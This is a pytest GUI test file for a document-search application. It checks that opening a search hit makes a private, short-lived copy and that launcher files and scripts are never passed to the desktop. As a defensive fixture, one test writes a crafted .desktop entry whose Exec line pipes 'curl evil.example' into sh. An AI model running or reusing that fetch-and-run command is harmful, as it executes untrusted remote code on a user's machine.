""" "Open" never exposes a private document and never launches a program.

Real items (ingested in-process with the real model), a real window (offscreen) searching them, and the
platform hand-off recorded by the scripted prompter (``tests/support/prompters.py``): the copy of a
document whose original is gone lies in a fresh 0700 ``mkdtemp`` folder, is 0600, and goes when the
window closes; an item whose name is a launcher (``evil.desktop``, as a crafted export could name one)
or a script is never handed to the desktop; editor command lines put ``--`` before the path.
"""

from __future__ import annotations

import os
import stat
import tempfile
from pathlib import Path

import pytest
from pytestqt.qtbot import QtBot
from sqlalchemy import text

from app.open_at import OpenRequest
from knowledge.compose import open_quire
from knowledge.lifecycle import operations
from knowledge.lifecycle.operations import PathInput
from tests.app.conftest import (  # noqa: F401 (the GUI fixtures: the window, its prompter, no main-thread writes)
    WindowFactory,
    create_base,
    main_thread_never_writes,
    open_window,
    prompter,
)
from tests.knowledge.helpers import drain
from tests.support.files import write_tree
from tests.support.prompters import ScriptedPrompter

pytestmark = pytest.mark.timeout(300)


def mode(path: Path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


def ingest(data_dir: Path, folder: Path) -> None:
    """Index the folder's files, then rename one item the way a crafted export could name it."""
    create_base(data_dir, "notes")
    quire = open_quire(data_dir)
    try:
        operations.add_items(quire, "notes", [PathInput(p) for p in sorted(folder.iterdir())])
        drain(quire)
        with quire.db.write() as conn:
            conn.execute(text("UPDATE items SET name = 'evil.desktop' WHERE name = 'launcher.md'"))
    finally:
        quire.close()


def search_for(qtbot: QtBot, window: object, query: str) -> None:
    panel = window.search_panel  # type: ignore[attr-defined]
    panel.mode.setCurrentText("keyword")
    panel.query.setText(query)
    with qtbot.waitSignal(panel.searched, timeout=60_000) as found:
        panel.run_search()
    assert found.args[0], f"no hit for {query!r}"
    panel.table.selectRow(0)


def test_a_copy_is_private_to_the_window_and_leaves_with_it(
    qtbot: QtBot,
    open_window: WindowFactory,  # noqa: F811 (the fixture imported above)
    data_dir: Path,
    tmp_path: Path,
    prompter: ScriptedPrompter,  # noqa: F811
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    folder = write_tree(
        tmp_path / "docs",
        {"report.md": "# Report\n\nThe quarterly figures for the marmalade cooperative.\n", "launcher.md": "x"},
    )
    ingest(data_dir, folder)
    (folder / "report.md").unlink()  # the original is gone: Open hands over the base's own copy
    monkeypatch.delenv("VISUAL", raising=False)
    monkeypatch.delenv("EDITOR", raising=False)
    shared = Path(tempfile.gettempdir()) / "quire-copies"
    existed_before = shared.exists()

    window = open_window()
    panel = window.search_panel
    search_for(qtbot, window, "marmalade cooperative")
    panel.open_button.click()
    qtbot.waitUntil(lambda: len(prompter.opened_at) == 1, timeout=30_000)
    request = prompter.opened_at[0]
    assert isinstance(request, OpenRequest)
    copy = request.path
    assert copy.name == "report.md" and "marmalade cooperative" in copy.read_text()
    root = panel.copies.root
    assert root is not None and root in copy.parents
    assert root.parent == Path(tempfile.gettempdir()) and root.name.startswith("quire-copies-")
    assert root.name != "quire-copies" and shared.exists() == existed_before  # not the old shared place
    assert mode(root) == 0o700 and mode(copy.parent) == 0o700 and mode(copy) == 0o600
    assert request.url == copy.resolve().as_uri() and request.argv == ()

    # with an editor, the command line ends "-- PATH": no name is ever taken for an option
    monkeypatch.setenv("EDITOR", "vim")
    panel.open_button.click()
    qtbot.waitUntil(lambda: len(prompter.opened_at) == 2, timeout=30_000)
    second = prompter.opened_at[1]
    assert isinstance(second, OpenRequest)
    assert second.argv[0] == "vim" and second.argv[-2:] == ("--", str(second.path))
    assert second.path != copy and second.path.parent.parent == root  # each copy in its own new folder

    window.close()
    assert not root.exists()  # every copy went with the window


def test_a_launcher_or_a_script_is_never_handed_to_the_desktop(
    qtbot: QtBot,
    open_window: WindowFactory,  # noqa: F811 (the fixture imported above)
    data_dir: Path,
    tmp_path: Path,
    prompter: ScriptedPrompter,  # noqa: F811
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    folder = write_tree(
        tmp_path / "docs",
        {
            "launcher.md": "[Desktop Entry]\nExec=sh -c 'curl evil.example | sh'\nName=quokka ledger\n",
            "tool.sh": "#!/bin/sh\n# rotates the wombat archive\necho done\n",
        },
    )
    ingest(data_dir, folder)
    (folder / "launcher.md").unlink()  # gone: Open would copy the item under its (crafted) name
    monkeypatch.delenv("VISUAL", raising=False)
    monkeypatch.delenv("EDITOR", raising=False)

    window = open_window()
    panel = window.search_panel
    search_for(qtbot, window, "quokka ledger")
    assert panel.current_hit() is not None and panel.current_hit().item_name == "evil.desktop"
    panel.open_button.click()
    qtbot.waitUntil(lambda: "evil.desktop is not opened" in window.message_bar.text(), timeout=30_000)
    assert "could run as a program" in window.message_bar.text()
    assert panel.copies.root is None  # nothing was copied for it
    assert prompter.opened_at == [] and prompter.opened == []

    # a script Quire reads as source code: never to the desktop; the person's editor may open it
    search_for(qtbot, window, "wombat archive")
    panel.open_button.click()
    assert window.message_bar.text().startswith("tool.sh is not opened")
    assert prompter.opened_at == []
    script = panel.current_hit().source_path
    monkeypatch.setenv("EDITOR", "nano")
    panel.open_button.click()
    request = prompter.opened_at[-1]
    assert isinstance(request, OpenRequest) and request.url is None
    assert request.argv[0] == "nano" and request.argv[1].startswith("+")
    assert request.argv[2:] == ("--", script)
